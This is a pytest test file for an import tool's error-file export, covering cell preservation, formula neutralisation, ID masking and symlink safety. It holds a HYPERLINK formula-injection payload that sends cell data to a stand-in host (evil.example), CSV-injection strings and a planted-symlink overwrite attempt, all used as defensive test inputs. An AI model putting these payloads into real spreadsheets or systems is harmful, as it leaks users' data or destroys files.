"""The error file: the user's own cells plus 原行号 and 错误说明, safe to open in Excel, private, and
importable again once corrected."""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
import sys
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures" / "records"))
from records_support import CODE, counts, id_number, write_csv, write_xlsx

from tracker.db.models import Person
from tracker.measure.progress import compute_progress
from tracker.records import import_file
from tracker.records.privacy import mask_id

HEAD = ["日期", "活动类型", "服务对象编号", "参与人数", "备注"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_xlsx_error_file_keeps_the_cells_dates_and_is_reimportable(roster_ws, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ws = roster_ws
    d = tmp_path / "in"
    d.mkdir()
    src = d / "台账.xlsx"
    wb = Workbook()
    sh = wb.active
    sh.append(["2024年7月活动台账"])
    sh.append(HEAD)
    sh.append([dt.date(2024, 7, 1), "上门探访", "P001", None, "正常"])
    sh.append([dt.date(2024, 7, 2), "培训", None, -3, None])  # bad: negative participants
    sh.cell(row=4, column=5).value = FORMULA  # text that looks like a formula (typed after an apostrophe)
    sh.cell(row=4, column=5).data_type = "s"
    sh.append([dt.date(2024, 7, 3), "上门探访", "P404", None, "@SUM(1)"])  # bad: not in the roster
    wb.save(src)
    before = counts(ws)
    r = import_file(ws, src, CODE)
    assert not r.committed and r.invalid_rows == 2 and counts(ws) == before
    out = r.error_file
    assert out == d / "台账.错误说明.xlsx"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert sorted(p.name for p in d.iterdir()) == ["台账.xlsx", "台账.错误说明.xlsx"]  # no temporary file left
    got = load_workbook(out)  # not read-only: cell types are checked
    sheet = got.worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [*HEAD, "原行号", "错误说明"]
    assert rows[1] == [dt.datetime(2024, 7, 1), "上门探访", "P001", None, "正常", 3, None]
    assert rows[2][:6] == [dt.datetime(2024, 7, 2), "培训", None, "-3", FORMULA, 4]
    assert rows[2][6] == "[参与人数] 不能为负数（填写的是 -3）"
    assert rows[3][4] == "@SUM(1)" and rows[3][5] == 5 and "P404" in rows[3][6]
    # no cell is a formula: what the user typed is text
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert sheet.cell(row=2, column=1).number_format == "yyyy-mm-dd"
    # corrected in place and imported again: 原行号 and 错误说明 are not read
    sheet.cell(row=3, column=4).value = 12
    sheet.cell(row=4, column=3).value = "P002"
    got.save(out)
    r2 = import_file(ws, out, CODE)
    assert (r2.imported, r2.invalid_rows, r2.committed) == (3, 0, True)
    assert r2.diff.new_rows[1].values == {"日期": "2024-07-02", "活动类型": "培训", "参与人数": "12",
                                          "备注": FORMULA}


def test_csv_error_file_keeps_names_and_id_numbers_and_neutralises_formulas(roster_ws, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ws = roster_ws
    good = id_number(birth="19470707", seq="063")
    wrong = good[:17] + ("0" if good[17] != "0" else "1")
    rows = [["服务对象编号", "姓名", "身份证号", "人群", "备注"],
            ["P010", "钱七", wrong, "留守独居等困难老人", "+1-2"],
            ["P011", "孙八", good, "留守独居等困难老人", "\t=1+1"],
            ["P012", "周九", id_number(birth="19480808", seq="071"), "无此人群", "-3"]]
    r = import_file(ws, write_csv(tmp_path / "r.csv", rows), CODE)
    assert r.invalid_rows == 2 and not r.committed  # P010: check digit; P012: population
    assert stat.S_IMODE(r.error_file.stat().st_mode) == 0o600
    with r.error_file.open(encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))
    assert got[0] == [*rows[0], "原行号", "错误说明"]
    # the user's own cells, names and ID numbers in clear (they are what is to be corrected)
    assert got[1][:6] == ["P010", "钱七", wrong, "留守独居等困难老人", "'+1-2", "2"]
    assert got[2][:6] == ["P011", "孙八", good, "留守独居等困难老人", "'\t=1+1", "3"]
    assert got[3][:6] == ["P012", "周九", rows[3][2], "无此人群", "-3", "4"]  # a plain number is not a formula
    assert got[1][6] == "[身份证号] 身份证号校验位错误，请核对号码" and got[2][6] == ""
    # corrected in the CSV and imported again: the apostrophes the error file added are not kept
    got[1][2], got[3][3] = id_number(birth="19470707", seq="064"), "困境儿童"
    write_csv(r.error_file, got)
    r2 = import_file(ws, r.error_file, CODE)
    assert (r2.imported, r2.invalid_rows, r2.committed) == (3, 0, True), r2.invalid
    notes = {x.values["服务对象编号"]: x.values.get("备注") for x in r2.diff.new_rows}
    assert notes == {"P010": "+1-2", "P011": "=1+1", "P012": "-3"}  # free text is trimmed, as on any import


def test_a_planted_symlink_is_never_followed(roster_ws, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ws = roster_ws
    victim = tmp_path / "victim.txt"
    victim.write_text("不能被覆盖", "utf-8")
    src = write_csv(tmp_path / "a.csv", [HEAD, ["2024-07-01", "培训", "", "x", ""]])
    # the names the old code used for its temporary file, and the error file itself
    for name in ("a.错误说明.csv.part", "a.错误说明.csv"):
        (tmp_path / name).symlink_to(victim)
    r = import_file(ws, src, CODE)
    assert r.invalid_rows == 1
    assert victim.read_text("utf-8") == "不能被覆盖"
    out = tmp_path / "a.错误说明.csv"
    assert not out.is_symlink() and "不是数字" in out.read_text("utf-8-sig")
    assert not [p for p in os.listdir(tmp_path) if p.startswith(".a.错误说明")]  # no temporary file left


ROSTER_HEAD = ["服务对象编号", "姓名", "身份证号", "人群", "乡镇街道", "建档日期"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_roster_error_file_corrected_and_reimported_gives_the_hand_counted_figures(roster_ws, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                                                  fmt: str) -> None:
    """A roster with a mistyped ID number and an impossible date: refused whole; its error file holds
    the user's cells (names and ID numbers in clear, dates as dates), the two cells are corrected in
    it and it is imported as it is; then the visits to those people count."""
    ws = roster_ws
    ids = {p: id_number(birth=b, seq=q) for p, b, q in
           [("P101", "19400105", "013"), ("P102", "19410206", "025"), ("P103", "19420307", "037"),
            ("P104", "20140408", "049")]}
    typo = ids["P102"][:17] + ("0" if ids["P102"][17] != "0" else "1")  # the check character mistyped
    day = dt.date if fmt == "xlsx" else (lambda y, m, d: f"{y}-{m:02d}-{d:02d}")
    rows = [ROSTER_HEAD,
            ["P101", "赵一", ids["P101"], "留守独居等困难老人", "寿昌镇", day(2024, 6, 10)],
            ["P102", "钱二", typo, "留守独居等困难老人", "寿昌镇", day(2024, 6, 11)],
            ["P103", "孙三", ids["P103"], "留守独居等困难老人", "新安江街道", "2024-06-31"],  # no 31 June
            ["P104", "李四", ids["P104"], "困境儿童", "新安江街道", day(2024, 6, 12)]]
    d = tmp_path / "in"
    d.mkdir()
    src = write_xlsx(d / "名册.xlsx", rows, text_cols=(2,)) if fmt == "xlsx" else write_csv(d / "名册.csv", rows)
    before = counts(ws)
    r = import_file(ws, src, CODE)
    assert (r.committed, r.invalid_rows, r.valid_rows) == (False, 2, 2) and counts(ws) == before
    assert r.error_file == d / f"名册.错误说明.{fmt}"
    assert stat.S_IMODE(r.error_file.stat().st_mode) == 0o600
    # what is printed and shown never carries an ID number, not even the mistyped one
    shown = "\n".join(e.message for e in r.invalid) + r.summary()
    assert all(v not in shown for v in [typo, *ids.values()]) and "赵一" not in shown

    got = _cells(r.error_file)
    assert got[0] == [*ROSTER_HEAD, "原行号", "错误说明"]
    for k in range(1, 5):  # every row holds exactly the input's cells, then its own row number
        when = rows[k][5]
        want = [*rows[k][:5], dt.datetime.combine(when, dt.time()) if isinstance(when, dt.date) else when]
        assert got[k][:6] == want and got[k][6] in (k + 1, str(k + 1)), (k, got[k])
    explained = {row[0]: row[7] for row in got[1:]}
    assert "校验位错误" in explained["P102"] and typo not in explained["P102"]
    assert "不是真实存在的日期" in explained["P103"] and not explained["P101"] and not explained["P104"]

    # the two cells corrected where they are, the file saved and imported again as it is
    fixed_id = ids["P102"]
    if fmt == "xlsx":
        wb = load_workbook(r.error_file)
        sheet = wb.worksheets[0]
        sheet.cell(row=3, column=3).value = fixed_id
        sheet.cell(row=4, column=6).value = dt.date(2024, 6, 30)
        wb.save(r.error_file)
    else:
        got[2][2], got[3][5] = fixed_id, "2024-06-30"
        write_csv(r.error_file, got)
    r2 = import_file(ws, r.error_file, CODE)
    assert (r2.committed, r2.kind, r2.imported, r2.invalid_rows) == (True, "roster", 4, 0), r2.invalid
    with ws.session() as s:
        people = {p.person_id: p for p in s.execute(select(Person).where(Person.person_id.in_(list(ids)),
                                                                         Person.retired_at.is_(None))).scalars()}
    assert sorted(people) == ["P101", "P102", "P103", "P104"]
    assert people["P102"].id_masked == mask_id(fixed_id) and people["P102"].birth_date == dt.date(1941, 2, 6)
    assert people["P103"].enrolled_on == dt.date(2024, 6, 30) and people["P101"].enrolled_on == dt.date(2024, 6, 10)
    assert people["P101"].name == "赵一"  # stored in the database by design; masked in all that leaves it

    # the figures: 5 home visits to 4 people (P101 twice, P102, P103 and the fixture's P001); P104's
    # tutoring is no home visit
    acts = [["日期", "活动类型", "服务对象编号"], ["2024-07-01", "上门探访", "P101"], ["2024-07-15", "上门探访", "P101"],
            ["2024-07-02", "上门探访", "P102"], ["2024-07-03", "上门探访", "P103"], ["2024-07-04", "上门探访", "P001"],
            ["2024-07-05", "课业辅导", "P104"]]
    r3 = import_file(ws, write_csv(tmp_path / "活动.csv", acts), CODE)
    assert (r3.committed, r3.imported) == (True, 6), r3.invalid
    p = {k.id.rsplit(".", 1)[-1]: k.actual for k in compute_progress(ws, CODE, dt.date(2024, 12, 31)).kpis}
    assert (p["visits_total"], p["visit_people"]) == (5, 4)


def _cells(path: Path) -> list[list[object]]:
    if path.suffix == ".xlsx":
        return [[c.value for c in row] for row in load_workbook(path).worksheets[0].iter_rows()]
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [list(r) for r in csv.reader(f)]


def test_a_mistyped_id_number_quoted_by_a_message_is_masked(roster_ws, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """An ID number typed as the 服务对象编号 (its check character wrong, so not refused as an ID
    number) is quoted by the message: masked there, on the terminal and in the 错误说明 alike, and
    kept in its own cell of the error file."""
    good = id_number(birth="19470707", seq="063")
    typo = good[:17] + ("0" if good[17] != "0" else "1")
    src = write_csv(tmp_path / "a.csv", [HEAD, ["2024-07-01", "上门探访", typo, "", ""],
                                         ["2024-07-01", "上门探访", "P001", "", f"核对 {typo}"]])
    r = import_file(roster_ws, src, CODE)
    assert r.invalid_rows == 1 and not r.committed
    msg = r.invalid[0].message
    assert typo not in msg and mask_id(typo) in msg, msg
    got = _cells(r.error_file)
    assert got[1][2] == typo and got[2][4] == f"核对 {typo}"  # the cells as typed
    assert typo not in got[1][-1] and mask_id(typo) in got[1][-1]
